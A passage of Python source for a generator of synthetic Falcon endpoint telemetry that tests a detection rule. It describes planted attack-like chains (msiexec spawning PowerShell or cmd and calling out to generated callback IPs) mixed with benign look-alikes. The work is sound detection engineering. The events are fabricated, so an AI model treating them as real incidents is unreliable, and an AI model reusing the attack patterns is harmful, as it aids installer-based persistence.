"""Deterministic synthetic Falcon endpoint telemetry (raw FDR style NDJSON).

The output imitates Falcon Data Replicator lines as LogScale would hold them:
one flat JSON object per line, almost every value a string (``"timestamp"``
is epoch milliseconds as a string, ports and process ids are strings), the
common keys ``aid``, ``cid``, ``aip``, ``event_simpleName``,
``event_platform``, ``timestamp``, ``id``, ``name`` (the *versioned* event
name such as ``ProcessRollup2V19``), ``ConfigBuild``, ``ConfigStateHash``,
``Entitlements`` and ``EffectiveTransmissionClass`` on every event.

Choices worth knowing when reading or matching the output:

* **Value types.**  Every value is a string except ``Attacks`` (an array of
  ``{"Tactic": ..., "Technique": ...}`` objects on some
  ClassifiedModuleLoad events), ``EventOrigin`` (a JSON number on every
  event of hosts running a current sensor build) and ``ActiveCpuCount`` (a
  JSON number on SensorHeartbeat events of those hosts).
* **Escaping** is Gson style: ``=`` ``&`` ``<`` ``>`` ``'`` are written as
  ``\\u003d`` ``\\u0026`` ``\\u003c`` ``\\u003e`` ``\\u0027``; backslashes
  of Windows paths are doubled.  Non-ASCII text (user names, document
  names, macOS host names) is written raw UTF-8 on most events and
  ``\\u``-escaped on about a quarter of them (decided per event).
* **Key order** differs between event types and, on about one event in
  twelve, within a type (the common keys move to the other end of the
  object).
* **Host names and users.**  ``ComputerName`` is carried on every event of
  hosts with a current sensor; three hosts of the pool run an older sensor
  and carry no ``ComputerName`` at all (about 7.5% of events).  On
  ProcessRollup2 ``UserName`` is missing on about 7% of background events.
  ProcessRollup2 also carries ``FileName`` and ``FilePath`` (the directory
  of ``ImageFileName`` with its trailing separator), the fields LogScale
  derives for queries.
* **Enriched network events.**  Raw FDR network events name no image, only
  ``ContextProcessId``.  LogScale deployments that join the process event
  add ``ImageFileName``; to exercise both cases about a third of the
  background network events (NetworkConnectIP4, NetworkReceiveAcceptIP4,
  NetworkCloseIP4) carry ``ImageFileName`` and the rest do not.  The
  planted installer callbacks (``msiexec.exe`` connecting out) always carry
  it, so a query filtering network events on ``ImageFileName`` can find
  them.
* **Time.**  ``timestamp`` strictly increases through the output, starting
  just after :data:`START_MS`; input order stands for time order.
* **Planted activity.**  Before each background event, with probability
  ``malicious_rate`` one instance of a :data:`SCENARIOS` chain is emitted,
  and with the same probability one instance of a benign
  :data:`LOOKALIKES` chain.  An instance is a few consecutive events on one
  host; instances that would not fit in the remaining event budget are
  skipped.  In the ``worst`` mix only the ProcessRollup2 and
  NetworkConnectIP4 events of an instance are kept.  Background events
  never satisfy the seed rule (T1546.016, ``shared/seed/t1546_016.cql``);
  only planted instances do.  Against that rule: ``msi_powershell`` and
  ``msi_silent_cmd`` always match, ``pip_python_curl`` never does (its
  parents ``pip3``/``python3`` are not in the rule's installer list), and of
  the look-alikes ``apt_maintainer`` always matches (dpkg running a
  maintainer script through ``dash``), ``aptitude_upgrade`` and
  ``updater_msiexec`` sometimes match (an ``apt``-named parent running
  ``sh``; an updater's msiexec running PowerShell), the others never do.

Everything is driven by one ``random.Random(seed)``; no hash randomisation,
clock, locale or unordered iteration reaches the output, so the same
arguments give the same bytes on any machine.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import hashlib
import queue
import random
import sys
import threading
import time
from collections.abc import Callable, Iterator
from json.encoder import encode_basestring, encode_basestring_ascii
from pathlib import Path
from typing import IO, Any

__all__ = [
    "LOOKALIKES",
    "MIXES",
    "SCENARIOS",
    "START_MS",
    "add_arguments",
    "generate_lines",
    "gson_escape",
    "make_hosts",
    "run",
    "sample_host",
    "scenario_events",
    "write_file",
]

MIXES = ("realistic", "worst")
SCENARIOS = ("msi_powershell", "pip_python_curl", "msi_silent_cmd")
LOOKALIKES = (
    "ssh_client",
    "aptitude_upgrade",
    "updater_msiexec",
    "msiexec_private_net",
    "apt_maintainer",
    "lookalike_event_names",
)
START_MS = 1_760_000_000_000  # 2025-10-09T08:53:20Z

_CHUNK_LINES = 2048
# zlib level 3 compresses these lines about twice as fast as the default 6
# for files about a fifth larger, so a gzip target costs little extra time.
_GZIP_LEVEL = 3
_ESCAPED_SHARE = 0.25  # events whose non-ASCII text is \u-escaped
_FLIP_SHARE = 0.08  # events whose common keys move to the other end
_NO_USER_SHARE = 0.07  # background ProcessRollup2 events without UserName
_NET_IMAGE_SHARE = 1 / 3  # background network events enriched with ImageFileName
_ATTACKS_SHARE = 0.08  # ClassifiedModuleLoad events with an Attacks array


# --------------------------------------------------------------------------
# Escaping


def gson_escape(text: str, ascii_only: bool = False) -> str:
    """The body of a JSON string literal for ``text``, escaped as Gson does
    (``= & < > '`` as ``\\u00XX``).  With ``ascii_only`` non-ASCII
    characters are ``\\u``-escaped too."""
    quoted = (encode_basestring_ascii if ascii_only else encode_basestring)(text)
    return (
        quoted[1:-1]
        .replace("=", "\\u003d")
        .replace("&", "\\u0026")
        .replace("<", "\\u003c")
        .replace(">", "\\u003e")
        .replace("'", "\\u0027")
    )


_esc = gson_escape


def _e2(text: str) -> tuple[str, str]:
    """Both escaped forms of ``text``: raw UTF-8 and ASCII-only."""
    return (gson_escape(text, False), gson_escape(text, True))


def _encode_value(value: Any, ascii_only: bool) -> str:
    if isinstance(value, str):
        return '"' + gson_escape(value, ascii_only) + '"'
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, list):
        return "[" + ",".join(_encode_value(v, ascii_only) for v in value) + "]"
    if isinstance(value, dict):
        return _encode_object(value, ascii_only)
    raise TypeError(f"unsupported value {value!r}")


def _encode_object(obj: dict, ascii_only: bool) -> str:
    return "{" + ",".join(f'"{k}":{_encode_value(v, ascii_only)}' for k, v in obj.items()) + "}"


# --------------------------------------------------------------------------
# Static vocabulary

_VERSIONED = {
    "ProcessRollup2": ("ProcessRollup2V19", "ProcessRollup2MacV5", "ProcessRollup2LinV5"),
    "SyntheticProcessRollup2": (
        "SyntheticProcessRollup2V4",
        "SyntheticProcessRollup2MacV3",
        "SyntheticProcessRollup2LinV3",
    ),
    "ProcessRollup2Stats": (
        "ProcessRollup2StatsV2",
        "ProcessRollup2StatsMacV2",
        "ProcessRollup2StatsLinV2",
    ),
    "NetworkConnectIP4": (
        "NetworkConnectIP4V5",
        "NetworkConnectIP4MacV5",
        "NetworkConnectIP4LinV5",
    ),
    "NetworkReceiveAcceptIP4": (
        "NetworkReceiveAcceptIP4V5",
        "NetworkReceiveAcceptIP4MacV5",
        "NetworkReceiveAcceptIP4LinV5",
    ),
    "NetworkCloseIP4": ("NetworkCloseIP4V5", "NetworkCloseIP4MacV5", "NetworkCloseIP4LinV5"),
    "DnsRequest": ("DnsRequestV5", "DnsRequestMacV1", "DnsRequestLinV1"),
    "ImageHash": ("ImageHashV4", "ImageHashMacV3", "ImageHashLinV3"),
    "EndOfProcess": ("EndOfProcessV17", "EndOfProcessMacV15", "EndOfProcessLinV9"),
    "ClassifiedModuleLoad": ("ClassifiedModuleLoadV3", "", ""),
    "NewExecutableWritten": (
        "NewExecutableWrittenV6",
        "NewExecutableWrittenMacV3",
        "NewExecutableWrittenLinV3",
    ),
    "PeFileWritten": ("PeFileWrittenV8", "", ""),
    "GenericFileWritten": (
        "GenericFileWrittenV4",
        "GenericFileWrittenMacV2",
        "GenericFileWrittenLinV2",
    ),
    "RegGenericValueUpdate": ("RegGenericValueUpdateV2", "", ""),
    "UserLogon": ("UserLogonV14", "UserLogonMacV3", "UserLogonLinV3"),
    "SensorHeartbeat": ("SensorHeartbeatV4", "SensorHeartbeatMacV4", "SensorHeartbeatLinV4"),
    "ScriptControlScanTelemetry": ("ScriptControlScanTelemetryV3", "", ""),
}
_PLATFORMS = ("Win", "Mac", "Lin")
_PLATFORM_INDEX = {"Win": 0, "Mac": 1, "Lin": 2}
_KINDS = tuple(_VERSIONED)
_KIND_INDEX = {k: i for i, k in enumerate(_KINDS)}
_TRANSMISSION = {
    "SensorHeartbeat": "0",
    "GenericFileWritten": "2",
    "ImageHash": "2",
    "ProcessRollup2Stats": "2",
}

# Per-mille weights of each event type per platform (each sums to 1000).
_MIX_WEIGHTS = {
    "realistic": {
        "Win": (
            ("ProcessRollup2", 70),
            ("SyntheticProcessRollup2", 4),
            ("ProcessRollup2Stats", 8),
            ("NetworkConnectIP4", 100),
            ("NetworkReceiveAcceptIP4", 12),
            ("NetworkCloseIP4", 40),
            ("DnsRequest", 120),
            ("ImageHash", 110),
            ("EndOfProcess", 66),
            ("ClassifiedModuleLoad", 140),
            ("NewExecutableWritten", 30),
            ("PeFileWritten", 40),
            ("GenericFileWritten", 90),
            ("RegGenericValueUpdate", 120),
            ("UserLogon", 15),
            ("SensorHeartbeat", 15),
            ("ScriptControlScanTelemetry", 20),
        ),
        "Mac": (
            ("ProcessRollup2", 70),
            ("SyntheticProcessRollup2", 4),
            ("ProcessRollup2Stats", 8),
            ("NetworkConnectIP4", 100),
            ("NetworkReceiveAcceptIP4", 10),
            ("NetworkCloseIP4", 50),
            ("DnsRequest", 200),
            ("ImageHash", 180),
            ("EndOfProcess", 70),
            ("NewExecutableWritten", 40),
            ("GenericFileWritten", 238),
            ("UserLogon", 10),
            ("SensorHeartbeat", 20),
        ),
        "Lin": (
            ("ProcessRollup2", 70),
            ("SyntheticProcessRollup2", 4),
            ("ProcessRollup2Stats", 8),
            ("NetworkConnectIP4", 100),
            ("NetworkReceiveAcceptIP4", 40),
            ("NetworkCloseIP4", 60),
            ("DnsRequest", 200),
            ("ImageHash", 150),
            ("EndOfProcess", 80),
            ("NewExecutableWritten", 30),
            ("GenericFileWritten", 218),
            ("UserLogon", 10),
            ("SensorHeartbeat", 30),
        ),
    },
    "worst": {
        p: (("ProcessRollup2", 450), ("NetworkConnectIP4", 550)) for p in ("Win", "Mac", "Lin")
    },
}

_COMMON_ORDER = (
    "event_simpleName",
    "ConfigStateHash",
    "ConfigBuild",
    "name",
    "Entitlements",
    "EffectiveTransmissionClass",
    "aid",
    "aip",
    "cid",
    "event_platform",
    "ComputerName",
    "EventOrigin",
)

_WIN_FIRST = (
    "José",
    "Zoë",
    "用户",
    "François",
    "Łukasz",
    "Søren",
    "d.o'neil",
    "mchen",
    "priya.n",
    "a.kowalski",
    "jsmith",
    "Müller",
    "t.nguyen",
    "r.garcía",
)
_MAC_USERS = ("zoë", "josé", "mchen", "søren", "priya", "lukasz", "ingrid", "kenji")
_MAC_HOSTNAMES = (
    "Zoë\u2019s MacBook Pro",
    "José's MacBook Air",
    "mchen-mbp",
    "Søren\u2019s iMac",
    "priya-macbook",
    "MacBook-Pro-de-Lukasz",
    "ingrid-mba",
    "kenji-studio",
)
_LIN_USERS = ("ubuntu", "deploy", "józef", "ec2-user", "svc-build", "admin", "jenkins", "ops")
_LIN_HOSTNAMES = (
    "web-prod-07",
    "build-runner-3",
    "k8s-node-12",
    "db-replica-2",
    "bastion-01",
    "ci-agent-5",
    "kafka-03",
    "jenkins-02",
)
_WIN_DEPTS = ("FIN", "HR", "ENG", "OPS", "SALES", "LEGAL", "IT", "MKT")
_WIN_SERVERS = ("SRV-SQL-01", "SRV-FS-02", "DC02", "SRV-APP-07")

_PUBLIC_FIRST_OCTETS = (13, 20, 23, 34, 35, 40, 52, 54, 104, 140, 142, 151, 157, 162, 185, 199)
# Addresses the seed rule's private-range regex must treat as public.
_EDGE_PUBLIC = ("172.32.", "172.15.", "192.169.", "100.64.")
_CALLBACK_OCTETS = (45, 77, 91, 103, 141, 185, 193, 195, 213)

_DOMAINS = (
    "login.microsoftonline.com",
    "settings-win.data.microsoft.com",
    "www.google.com",
    "update.googleapis.com",
    "clients2.google.com",
    "github.com",
    "api.github.com",
    "ocsp.digicert.com",
    "slack.com",
    "edgeapi.slack.com",
    "zoom.us",
    "outlook.office365.com",
    "teams.microsoft.com",
    "s3.amazonaws.com",
    "time.apple.com",
    "gateway.icloud.com",
    "archive.ubuntu.com",
    "security.ubuntu.com",
    "pypi.org",
    "files.pythonhosted.org",
    "registry.npmjs.org",
    "ts01-b.cloudsink.net",
    "lfodown01-b.cloudsink.net",
    "wpad.corp.local",
    "fs01.corp.local",
)

_TAGS = (
    "25, 27, 40, 151, 874, 924, 12094627905582, 12094627906234",
    "12094627905582, 12094627906234, 211106232533012",
    "25, 27, 40, 151, 874, 924",
    "",
)
_ATTACKS = (
    {"Tactic": "Defense Evasion", "Technique": "Masquerading"},
    {"Tactic": "Execution", "Technique": "Command and Scripting Interpreter"},
    {"Tactic": "Persistence", "Technique": "Event Triggered Execution"},
    {"Tactic": "Defense Evasion", "Technique": "Process Injection"},
    {"Tactic": "Credential Access", "Technique": "OS Credential Dumping"},
)

_CHROME_FEATURES = (
    "AutofillServerCommunication",
    "BackForwardCache",
    "CalculateNativeWinOcclusion",
    "CertDualVerificationTrialFeature",
    "DocumentPolicyIncludeJSCallStacksInCrashReports",
    "EarlyEstablishGpuChannel",
    "EstablishGpuChannelAsync",
    "FluentOverlayScrollbar",
    "MediaFoundationD3D11VideoCapture",
    "NetworkServiceInProcess2",
    "PartitionedCookies",
    "PrefetchFontLookupTables",
    "RendererAppContainer",
    "SpareRendererForSitePerProcess",
    "ThirdPartyStoragePartitioning",
    "V8VmFuture",
    "WebRtcAllowInputVolumeAdjustment",
    "WinUseBrowserSpellChecker",
    "msAbydos",
    "msEdgeFluentOverlayScrollbar",
    "msIncreaseRendererPriority",
    "msWebOOUI",
)

_PS_SCRIPT_LINES = (
    "$ErrorActionPreference = 'Stop'",
    "$inv = Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption, Version, BuildNumber",
    "$apps = Get-ItemProperty 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' | Where-Object { $_.DisplayName -ne $null }",
    "$disk = Get-PSDrive -PSProvider FileSystem | Where-Object { $_.Free -lt 10GB }",
    "if ($disk.Count -gt 0) { Write-Output \"low disk: $($disk.Name -join ',')\" }",
    "$report = [ordered]@{ host = $env:COMPUTERNAME; os = $inv.Caption; apps = $apps.Count }",
    '$report | ConvertTo-Json -Depth 3 | Out-File -Encoding utf8 "$env:ProgramData\\Intune\\inventory.json"',
    "Get-ScheduledTask | Where-Object { $_.State -eq 'Ready' -and $_.TaskPath -like '\\Corp\\*' }",
    "$svc = Get-Service -Name 'wuauserv'; if ($svc.Status -ne 'Running') { Start-Service $svc }",
    "Set-ItemProperty -Path 'HKCU:\\Software\\Corp\\Agent' -Name 'LastRun' -Value (Get-Date -Format o)",
)


# --------------------------------------------------------------------------
# Small helpers


def _ip(rng: random.Random, first: tuple[int, ...]) -> str:
    return f"{rng.choice(first)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _private_ip(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.45:
        return f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    if r < 0.75:
        return f"172.{rng.randrange(16, 32)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    return f"192.168.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _callback_ip(rng: random.Random) -> str:
    if rng.random() < 0.15:
        prefix = rng.choice(_EDGE_PUBLIC)
        return f"{prefix}{rng.randrange(256)}.{rng.randrange(1, 255)}"
    return _ip(rng, _CALLBACK_OCTETS)


def _hex(rng: random.Random, nbits: int) -> str:
    return f"{rng.getrandbits(nbits):0{nbits // 4}x}"


def _digest(text: str, size: int) -> str:
    """A stable pseudo hash of a file path (same image, same hash)."""
    return hashlib.blake2b(text.encode("utf-8"), digest_size=size).hexdigest()


def _secs(ms: int) -> str:
    return f"{ms // 1000}.{ms % 1000:03d}"


def _dev_path(path: str, vol: int) -> str:
    """``C:\\x`` as the kernel device path Falcon reports."""
    if path[1:3] == ":\\":
        return f"\\Device\\HarddiskVolume{vol}{path[2:]}"
    return path


def _split(path: str, sep: str) -> tuple[str, str]:
    i = path.rfind(sep)
    return path[: i + 1], path[i + 1 :]


def _b64_ps(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


# --------------------------------------------------------------------------
# Hosts


def _build_hosts(rng: random.Random) -> list[dict]:
    cid = _hex(rng, 128)
    domain_sid = f"S-1-5-21-{rng.randrange(10**9, 4 * 10**9)}-{rng.randrange(10**9, 4 * 10**9)}-{rng.randrange(10**9, 4 * 10**9)}"
    office_ips = [_ip(rng, _PUBLIC_FIRST_OCTETS) for _ in range(3)]
    plan = ["Win"] * 24 + ["Mac"] * 8 + ["Lin"] * 8
    legacy = set(rng.sample(range(len(plan)), 3))
    win_names = list(_WIN_FIRST)
    rng.shuffle(win_names)
    mac_order = list(range(len(_MAC_USERS)))
    rng.shuffle(mac_order)
    lin_names = list(_LIN_USERS)
    rng.shuffle(lin_names)
    hosts: list[dict] = []
    counts = {"Win": 0, "Mac": 0, "Lin": 0}
    for i, platform in enumerate(plan):
        n = counts[platform]
        counts[platform] += 1
        current = i not in legacy and rng.random() < 0.5
        if i in legacy:
            build_tail = "0016412.1"
        elif current:
            build_tail = "0020106.1"
        else:
            build_tail = "0019806.1"
        if platform == "Win":
            if n < len(_WIN_SERVERS):
                cname = _WIN_SERVERS[n]
                primary = "svc_" + cname.split("-")[1].lower() if "-" in cname else "Administrator"
            else:
                cname = f"{rng.choice(_WIN_DEPTS)}-{rng.choice(('WKS', 'LT', 'VDI'))}-{rng.randrange(10000):04d}"
                primary = win_names[n % len(win_names)]
            users = [
                {
                    "UserName": primary,
                    "UserSid": f"{domain_sid}-{rng.randrange(1100, 9999)}",
                    "home": f"C:\\Users\\{primary}",
                },
                {
                    "UserName": "SYSTEM",
                    "UserSid": "S-1-5-18",
                    "home": "C:\\Windows\\system32\\config\\systemprofile",
                },
                {
                    "UserName": "LOCAL SERVICE",
                    "UserSid": "S-1-5-19",
                    "home": "C:\\Windows\\ServiceProfiles\\LocalService",
                },
                {
                    "UserName": "NETWORK SERVICE",
                    "UserSid": "S-1-5-20",
                    "home": "C:\\Windows\\ServiceProfiles\\NetworkService",
                },
            ]
            local_ip = f"10.{rng.randrange(20, 40)}.{rng.randrange(256)}.{rng.randrange(2, 250)}"
            aip = rng.choice(office_ips)
            build = "1007.3." + build_tail
        elif platform == "Mac":
            k = mac_order[n % len(mac_order)]
            cname = _MAC_HOSTNAMES[k]
            short = _MAC_USERS[k]
            users = [
                {
                    "UserName": short,
                    "UID": str(501 + n % 3),
                    "GID": "20",
                    "home": f"/Users/{short}",
                },
                {"UserName": "root", "UID": "0", "GID": "0", "home": "/var/root"},
            ]
            local_ip = f"192.168.{rng.randrange(0, 3)}.{rng.randrange(2, 250)}"
            aip = _ip(rng, _PUBLIC_FIRST_OCTETS)
            build = "1007.4." + build_tail
        else:
            cname = _LIN_HOSTNAMES[n % len(_LIN_HOSTNAMES)]
            short = lin_names[n % len(lin_names)]
            users = [
                {
                    "UserName": short,
                    "UID": str(1000 + n),
                    "GID": str(1000 + n),
                    "home": f"/home/{short}",
                },
                {"UserName": "root", "UID": "0", "GID": "0", "home": "/root"},
                {"UserName": "www-data", "UID": "33", "GID": "33", "home": "/var/www"},
            ]
            local_ip = f"172.31.{rng.randrange(256)}.{rng.randrange(2, 250)}"
            aip = _ip(rng, (3, 18, 34, 35, 44, 52, 54))
            build = "1007.8." + build_tail
        hosts.append(
            {
                "aid": _hex(rng, 128),
                "cid": cid,
                "aip": aip,
                "platform": platform,
                "hostname": cname,
                "ComputerName": None if i in legacy else cname,
                "local_ip": local_ip,
                "users": users,
                "ConfigBuild": build,
                "ConfigStateHash": str(rng.getrandbits(32)),
                "Entitlements": "15",
                "EventOrigin": 1 if current else None,
                "cpus": rng.choice((2, 4, 8, 16)),
                "volume": rng.choice((2, 3, 3, 3, 4)),
                "node": _hex(rng, 64),
            }
        )
    return hosts


def make_hosts(seed: int = 0) -> list[dict]:
    """The fixed host pool that :func:`generate_lines` uses for ``seed``.

    Each host is a plain dict: ``aid``, ``cid``, ``aip``, ``platform``
    (``Win``/``Mac``/``Lin``), ``hostname``, ``ComputerName`` (``None`` on
    the older sensors that do not report it), ``local_ip``, ``users`` (the
    interactive user first, then ``SYSTEM``/``root`` and service accounts;
    each with ``UserName``, ``home`` and ``UserSid`` or ``UID``/``GID``),
    ``ConfigBuild``, ``ConfigStateHash``, ``Entitlements``, ``EventOrigin``
    (``1`` or ``None``), ``cpus``, ``volume`` (the ``HarddiskVolumeN``
    number) and ``node`` (the tail of its event ids)."""
    return _build_hosts(random.Random(seed))


def sample_host(platform: str, seed: int = 0) -> dict:
    """The first host of ``platform`` (``Win``, ``Mac`` or ``Lin``) in the
    pool of ``seed`` that carries a ``ComputerName``."""
    for host in make_hosts(seed):
        if host["platform"] == platform and host["ComputerName"]:
            return host
    raise ValueError(f"no host for platform {platform!r}")


# --------------------------------------------------------------------------
# Background process catalogs.  A command line function gets the rng and the
# host context and returns the raw (unescaped) command line.

_Cmd = Callable[[random.Random, "_Host"], str]


def _chromium_cmd(exe: str, r: random.Random, h: _Host, win: bool) -> str:
    kind = r.random()
    flags = [f'"{exe}"' if win else exe]
    lang = r.choice(("en-US", "en-GB", "de", "fr", "es", "zh-CN"))
    if kind < 0.65:
        flags += [
            "--type=renderer",
            "--display-capture-permissions-policy-allowed",
            "--no-pre-read-main-dll",
            "--video-capture-use-gpu-memory-buffer",
            f"--lang={lang}",
            f"--device-scale-factor={r.choice(('1', '1.25', '1.5', '2'))}",
            f"--num-raster-threads={r.choice((2, 4))}",
            "--enable-main-frame-before-activation",
            f"--renderer-client-id={r.randrange(5, 400)}",
            f"--time-ticks-at-unix-epoch=-{r.randrange(10**15, 2 * 10**15)}",
            f"--launch-time-ticks={r.randrange(10**9, 10**11)}",
        ]
    elif kind < 0.85:
        flags += [
            "--type=gpu-process",
            "--gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "--noerrdialogs",
            "--string-annotations=is-enterprise-managed=yes",
        ]
    else:
        flags += [
            "--type=utility",
            "--utility-sub-type=network.mojom.NetworkService",
            f"--lang={lang}",
            "--service-sandbox-type=none",
        ]
    flags.append(
        f"--field-trial-handle={r.randrange(1000, 9999)},i,{r.getrandbits(63)},{r.getrandbits(63)},262144"
    )
    enabled = r.sample(_CHROME_FEATURES, r.randrange(3, len(_CHROME_FEATURES)))
    disabled = r.sample(_CHROME_FEATURES, r.randrange(1, 8))
    flags.append("--enable-features=" + ",".join(enabled))
    flags.append("--disable-features=" + ",".join(disabled))
    flags.append(
        f"--variations-seed-version=2025{r.randrange(1, 13):02d}{r.randrange(1, 29):02d}-180029.870000"
    )
    if win:
        flags.append(f"--mojo-platform-channel-handle={r.randrange(1000, 9999)}")
        flags.append("/prefetch:" + str(r.randrange(1, 9)))
    else:
        flags.append(f"--shared-files --seatbelt-client={r.randrange(20, 200)}")
    return " ".join(flags)


def _java_cmd(java: str, base: str, sep: str, r: random.Random, win: bool) -> str:
    libs = (
        "spring-core-6.1.3",
        "spring-context-6.1.3",
        "spring-web-6.1.3",
        "jackson-databind-2.16.1",
        "jackson-core-2.16.1",
        "netty-handler-4.1.106.Final",
        "netty-transport-4.1.106.Final",
        "log4j-core-2.22.1",
        "log4j-api-2.22.1",
        "guava-33.0.0-jre",
        "commons-lang3-3.14.0",
        "postgresql-42.7.1",
        "HikariCP-5.1.0",
        "kafka-clients-3.6.1",
        "micrometer-core-1.12.2",
        "snakeyaml-2.2",
        "tomcat-embed-core-10.1.18",
        "slf4j-api-2.0.11",
    )
    picked = r.sample(libs, r.randrange(6, len(libs)))
    lib_dir = base + ("\\lib\\" if win else "/lib/")
    classpath = sep.join(lib_dir + name + ".jar" for name in picked)
    heap = r.choice(("512m", "1g", "2g", "4g"))
    return (
        f"{java} -Xms{heap} -Xmx{heap} -XX:+UseG1GC -Dfile.encoding=UTF-8 "
        f"-Dspring.profiles.active={r.choice(('prod', 'staging'))} -Duser.timezone=UTC "
        f"-cp {classpath} com.acme.{r.choice(('billing', 'orders', 'search'))}.Application"
    )


def _ps_encoded(r: random.Random) -> str:
    script = "\n".join(r.sample(_PS_SCRIPT_LINES, r.randrange(3, len(_PS_SCRIPT_LINES))))
    return _b64_ps(script)


_SVCHOST = (
    ("netsvcs", "Schedule"),
    ("LocalServiceNetworkRestricted", "Dhcp"),
    ("NetworkService", "Dnscache"),
    ("LocalSystemNetworkRestricted", "SysMain"),
    ("netsvcs", "BITS"),
    ("UnistackSvcGroup", "CDPUserSvc"),
    ("LocalService", "EventLog"),
    ("wsappx", "AppXSvc"),
)


def _w_svchost(r: random.Random, h: _Host) -> str:
    group, svc = r.choice(_SVCHOST)
    if r.random() < 0.3:
        return f"C:\\Windows\\system32\\svchost.exe -k {group}"
    return f"C:\\Windows\\system32\\svchost.exe -k {group} -p -s {svc}"


def _w_chrome(r: random.Random, h: _Host) -> str:
    return _chromium_cmd("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", r, h, True)


def _w_edge(r: random.Random, h: _Host) -> str:
    return _chromium_cmd(
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", r, h, True
    )


def _w_powershell(r: random.Random, h: _Host) -> str:
    if r.random() < 0.45:
        return (
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile "
            "-NonInteractive -ExecutionPolicy Bypass -EncodedCommand " + _ps_encoded(r)
        )
    script = r.choice(("inventory.ps1", "Sync-Printers.ps1", "cleanup_temp.ps1", "Set-Proxy.ps1"))
    return (
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile '
        f'-ExecutionPolicy Bypass -File "C:\\ProgramData\\Corp\\Scripts\\{script}" -LogLevel=Info'
    )


def _w_cmd(r: random.Random, h: _Host) -> str:
    return r.choice(
        (
            'C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\Backup\\run_backup.bat" --target \\\\fs01\\backups"',
            "C:\\Windows\\system32\\cmd.exe /c set JAVA_OPTS=-Xmx2g && gradlew.bat build --offline",
            f'"C:\\Windows\\system32\\cmd.exe" /d /c "{h.home}\\AppData\\Local\\Temp\\tsc-{r.getrandbits(20):05x}.cmd"',
            "C:\\Windows\\system32\\cmd.exe /c ver",
            f'C:\\Windows\\system32\\cmd.exe /c echo {h.cname} > "{h.home}\\Desktop\\hostname.txt"',
        )
    )


def _w_java(r: random.Random, h: _Host) -> str:
    return _java_cmd(
        '"C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.10.7-hotspot\\bin\\java.exe"',
        "C:\\apps\\acme",
        ";",
        r,
        True,
    )


def _w_code(r: random.Random, h: _Host) -> str:
    exe = f'"{h.home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"'
    return (
        f"{exe} --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US "
        f'--service-sandbox-type=none --user-data-dir="{h.home}\\AppData\\Roaming\\Code" '
        f"--standard-schemes=vscode-webview,vscode-file --secure-schemes=vscode-webview,vscode-file "
        f"--field-trial-handle={r.randrange(1000, 9999)},i,{r.getrandbits(62)},{r.getrandbits(62)},262144 "
        f"--mojo-platform-channel-handle={r.randrange(1000, 9999)} /prefetch:8"
    )


_DOCS = (
    "Präsentation Q3 Entwurf.docx",
    "会议记录.docx",
    "Budget_2025 (final).xlsx",
    "Résumé \u2013 Zoë.docx",
    "O'Brien contract v2.docx",
    "roadmap.pptx",
    "Überblick & Ziele.docx",
)


def _w_winword(r: random.Random, h: _Host) -> str:
    doc = r.choice(_DOCS)
    return f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{h.home}\\Documents\\{doc}" /o ""'


def _w_notepad(r: random.Random, h: _Host) -> str:
    name = r.choice(("笔记.txt", "todo.txt", "Überweisung.txt", "notes <draft>.txt", "hosts"))
    return f'"C:\\Windows\\system32\\NOTEPAD.EXE" {h.home}\\Desktop\\{name}'


def _w_search(r: random.Random, h: _Host) -> str:
    n = r.randrange(1, 40)
    return (
        f'"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ '
        f"Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "
        '"Software\\Microsoft\\Windows Search" '
        '"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
        '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" '
    )


def _w_git(r: random.Random, h: _Host) -> str:
    sub = r.choice(
        ("fetch --prune origin", "status -z -uall", "pull --ff-only", "log -n 20 --format=%H")
    )
    return f'"C:\\Program Files\\Git\\cmd\\git.exe" -c core.quotepath=false -c color.ui=false {sub}'


def _fixed(text: str) -> _Cmd:
    return lambda r, h: text


def _w_onedrive(r: random.Random, h: _Host) -> str:
    return f'"{h.home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'


def _w_dllhost(r: random.Random, h: _Host) -> str:
    clsid = r.choice(
        (
            "{3EB3C877-1F16-487C-9050-104DBCD66683}",
            "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
            "{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}",
        )
    )
    return f"C:\\Windows\\system32\\DllHost.exe /Processid:{clsid}"


# (weight, image, parent, user index, integrity, network capable, command line)
_WIN_PROCS: tuple[tuple[int, str, str, int, str, bool, _Cmd], ...] = (
    (10, "C:\\Windows\\System32\\svchost.exe", "services.exe", 1, "16384", True, _w_svchost),
    (
        12,
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "chrome.exe",
        0,
        "4096",
        True,
        _w_chrome,
    ),
    (
        6,
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "msedge.exe",
        0,
        "4096",
        True,
